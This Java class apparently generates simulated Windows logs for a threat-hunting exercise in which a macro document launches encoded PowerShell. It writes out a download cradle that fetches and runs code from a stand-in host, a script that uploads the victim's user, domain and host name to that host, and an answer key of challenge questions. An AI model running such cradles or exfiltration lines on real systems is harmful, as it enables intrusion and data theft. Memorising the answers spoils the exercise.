package io.helklab.samples.generator.scenario;

import io.helklab.samples.AttackTechnique;
import io.helklab.samples.RecordFormat;
import io.helklab.samples.generator.HelkValues;
import io.helklab.samples.generator.domain.ImageCatalog;
import io.helklab.samples.generator.domain.InternetDirectory;
import io.helklab.samples.generator.domain.SimulatedProcess;
import io.helklab.samples.generator.event.LogChannel;
import io.helklab.samples.generator.event.PowerShellEvents;
import io.helklab.samples.generator.simulation.HostSimulation;
import io.helklab.samples.generator.simulation.UserDesktop;

import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;

/** A macro in a mailed invoice starts a hidden, encoded PowerShell download cradle on WKS01. */
public final class EncodedPowerShellCradle extends AttackScenario {

    static final String STAGER_DOMAIN = "cdn.static-assets.example.net";

    public EncodedPowerShellCradle() {
        super("encoded-powershell-cradle", "Encoded PowerShell download cradle from a macro document",
                List.of(new AttackTechnique("T1566.001", "Phishing: Spearphishing Attachment"),
                        new AttackTechnique("T1204.002", "User Execution: Malicious File"),
                        new AttackTechnique("T1059.001", "Command and Scripting Interpreter: PowerShell"),
                        new AttackTechnique("T1027", "Obfuscated Files or Information"),
                        new AttackTechnique("T1105", "Ingress Tool Transfer")),
                RecordFormat.WINLOGBEAT_7, LocalDate.of(2026, 10, 5), List.of("DC01", "SRV01", "WKS01", "WKS02"),
                "Mid-morning, amartin on WKS01 opens an 'invoice' attached to an e-mail. Word runs its macro, which starts "
                        + "PowerShell hidden, without a profile and with a Base64 -EncodedCommand. The decoded command is a classic "
                        + "download cradle: IEX over Net.WebClient.DownloadString from an external CDN-looking host. The second "
                        + "stage enumerates the user and the domain. Hunt from the odd parent-child pair (winword.exe → "
                        + "powershell.exe), the encoded command line, the script-block log and the DNS/network events of that "
                        + "PowerShell process.");
    }

    @Override
    public void perform(ScenarioContext context) {
        HostSimulation workstation = context.machine("WKS01");
        Instant opened = context.at(LocalTime.of(10, 14, 7));
        UserDesktop desktop = workstation.desktopAt(opened);
        String attachment = desktop.profileDirectory() + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZB\\Invoice_88213.docm";
        workstation.sysmon().fileCreate(opened.minusSeconds(6), desktop.outlook(), attachment);
        String word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        SimulatedProcess winword = workstation.start(opened, desktop.outlook(), word,
                "\"" + word + "\" /n \"" + attachment + "\" /o \"\"", desktop.session(), "Medium", desktop.profileDirectory() + "\\Documents\\");
        workstation.loadModules(opened.plusSeconds(2), winword,
                "C:\\Program Files\\Microsoft Office\\root\\VFS\\ProgramFilesCommonX86\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL");

        String cradle = "IEX (New-Object Net.WebClient).DownloadString('http://" + STAGER_DOMAIN + "/js/jquery-3.7.1.min.js')";
        Instant launched = opened.plusSeconds(19);
        SimulatedProcess powershell = workstation.start(launched, winword, AttackTools.POWERSHELL,
                "powershell.exe -NoP -NonI -W Hidden -Enc " + AttackTools.encodedCommand(cradle), desktop.session(), "Medium",
                desktop.profileDirectory() + "\\Documents\\");
        workstation.loadModules(launched.plusMillis(300), powershell, ImageCatalog.POWERSHELL_RUNTIME_MODULES);
        workstation.powershell().scriptBlock(launched.plusSeconds(1), powershell, cradle, PowerShellEvents.newScriptBlockId(context.random()), true);
        Instant connected = workstation.network().lookupAndConnect(launched.plusSeconds(2), powershell, STAGER_DOMAIN, 80);
        String stage = "$u=[Environment]::UserName;$d=([ADSI]'').distinguishedName;$h=hostname;\n"
                + "$s=New-Object Net.WebClient;$s.Headers.Add('User-Agent','Mozilla/5.0');\n"
                + "$s.UploadString('http://" + STAGER_DOMAIN + "/api/v1/ping',\"$u|$d|$h\")";
        workstation.powershell().scriptBlock(connected.plusSeconds(1), powershell, stage, PowerShellEvents.newScriptBlockId(context.random()), true);
        SimulatedProcess whoami = workstation.start(connected.plusSeconds(3), powershell, "C:\\Windows\\System32\\whoami.exe",
                "\"C:\\Windows\\system32\\whoami.exe\" /all");
        workstation.terminate(connected.plusSeconds(4), whoami);
        workstation.network().connectOut(connected.plusSeconds(5), powershell, workstation.network().resolve(connected.plusSeconds(5),
                powershell, STAGER_DOMAIN), "-", 80);
        workstation.terminate(connected.plusSeconds(40), powershell);
        workstation.terminate(opened.plusSeconds(300), winword);

        context.answers()
                .processCreated("The hidden PowerShell started by Word with an encoded command", powershell)
                .processCreated("Word opening the mailed macro document (parent of the PowerShell)", winword)
                .sysmonEvent("The attachment written to Outlook's cache", 11, desktop.outlook(),
                        Map.of("file_name", HelkValues.lower(attachment)), 1)
                .sysmonEvent("PowerShell resolving the stager host", 22, powershell, Map.of("dns_query_name", STAGER_DOMAIN), 2)
                .sysmonEvent("PowerShell connecting to the stager", 3, powershell,
                        Map.of("dst_ip_addr", InternetDirectory.addressOf(STAGER_DOMAIN)), 2)
                .fact("Script-block logging of the decoded cradle", LogChannel.POWERSHELL,
                        Map.of("event_id", 4104, "host_name", HelkValues.host(workstation.host().fullyQualifiedName())), 2)
                .challenge("command-line", "What is the full command line of the PowerShell process that Word started?",
                        HelkValues.lower(powershell.commandLine()))
                .processNameChallenge("parent", "Which program started the encoded PowerShell?", winword)
                .challenge("stager-domain", "From which host name did the cradle download its second stage?", STAGER_DOMAIN)
                .challenge("process-guid", "What is the ProcessGuid of the malicious PowerShell process?", HelkValues.guid(powershell.processGuid()))
                .challenge("victim", "Which user opened the document?", "amartin", "helk\\amartin");
    }
}
